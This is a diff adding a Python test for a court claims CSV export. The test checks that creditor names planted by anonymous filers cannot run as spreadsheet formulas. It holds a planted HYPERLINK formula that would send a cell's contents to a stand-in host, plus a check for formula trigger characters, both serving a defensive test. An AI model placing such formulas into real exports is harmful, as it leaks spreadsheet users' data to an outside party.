@@ -167,6 +167,25 @@ def test_csv_export_streams_every_claim(client, case):
     )
 
 
+def test_csv_export_never_starts_a_cell_with_a_formula(client, case):
+    """A creditor name planted by an anonymous ePOC filer is text in the export."""
+    from claimkit import claim_data
+
+    planted = '=HYPERLINK("https://x.example/?"&A1,"Click")'
+    services.file_claim(case=case, data=claim_data(creditor_name=planted), epoc=True)
+    services.file_claim(
+        case=case, data=claim_data(creditor_name="@SUM(A1:A9)"), epoc=True
+    )
+    url = reverse("dockets:claims-csv", kwargs={"case_id": case.pk})
+    text = b"".join(client.get(url).streaming_content).decode()
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[1][2] == "'" + planted
+    assert rows[2][2] == "'@SUM(A1:A9)"
+    assert not [
+        c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")
+    ]
+
+
 def test_cmecf_address_reaches_the_register(client, case):
     """/cgi-bin/SearchClaims.pl?<case id> serves CM/ECF's register markup, no redirect."""
     response = client.get(f"/cgi-bin/SearchClaims.pl?{case.pk}")
